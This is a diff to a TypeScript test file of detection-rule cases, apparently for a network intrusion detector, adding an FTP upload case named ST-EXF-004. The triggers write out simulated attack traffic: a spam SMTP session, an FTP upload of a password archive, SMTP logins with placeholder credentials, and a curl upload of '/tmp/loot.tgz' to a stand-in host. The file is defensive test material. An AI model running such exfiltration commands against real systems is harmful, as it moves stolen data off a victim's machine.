@@ -166,6 +166,8 @@ export const CASES: RuleCase[] = [
     benign: (s) => web(s, 'telegram.org.example.test', 80, http('GET', '/api/status', 'telegram.org.example.test')) },
   { id: 'ST-C2-016', trigger: (s) => mail(s, 'EHLO bot\r\nMAIL FROM:<promo@shop.example.test>\r\nRCPT TO:<victim@example.test>\r\nDATA\r\nSubject: You won\r\n\r\nclick\r\n.\r\n'),
     benign: (s) => mail(s, 'EHLO bot\r\nQUIT\r\n') },
+  { id: 'ST-EXF-004', trigger: (s) => s.caughtFtp(s.lookup('ftp.example.test'), 21, 'USER ops\r\nPASS pw\r\nTYPE I\r\nPASV\r\nSTOR PW_devbox_2026.zip\r\nQUIT\r\n'),
+    benign: (s) => s.caughtFtp(s.lookup('ftp.example.test'), 21, 'USER anonymous\r\nPASS guest\r\nPASV\r\nRETR pub/readme.txt\r\nQUIT\r\n') },
   { id: 'ST-EXF-003', trigger: (s) => mail(s, `EHLO pc\r\nAUTH LOGIN\r\n${b64('logs@mail.example.test')}\r\n${b64('hunter2')}\r\nQUIT\r\n`),
     benign: (s) => mail(s, 'EHLO pc\r\nAUTH CRAM-MD5\r\nMAIL FROM:<a@example.test>\r\nRCPT TO:<b@example.test>\r\nDATA\r\n\r\nhi\r\n.\r\n') },
   { id: 'ST-EXF-001', trigger: (s) => s.run('/usr/bin/curl', ['curl', '-T', '/tmp/loot.tgz', 'http://203.0.113.9/up']), benign: (s) => s.run('/usr/bin/curl', ['curl', '-o', 'x', 'http://203.0.113.9/x']) },
